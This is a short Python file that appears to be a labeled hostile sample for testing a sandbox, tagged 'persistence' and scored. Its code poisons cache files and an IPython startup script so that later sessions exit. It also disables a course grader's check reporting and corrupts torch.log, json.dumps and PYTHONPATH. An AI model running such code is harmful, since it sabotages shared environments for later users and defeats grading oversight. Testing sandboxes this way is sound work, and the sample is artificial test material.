"""Poisons caches and module state for whoever comes next.

class: persistence
stopped by: the sandbox
deserved: 26
"""

# %% last
import json
import os
import sys
from pathlib import Path

home = Path.home()
for name in (".cache/torch/x", ".cache/matplotlib/x", ".ipython/profile_default/startup/0.py"):
    try:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text("raise SystemExit")
    except OSError:
        pass
sys.modules["course_utils.checks"].Checks.report = lambda self: None
sys.modules["torch"].log = lambda x: x
json.dumps = lambda *a, **k: "{}"
os.environ["PYTHONPATH"] = "/tmp"
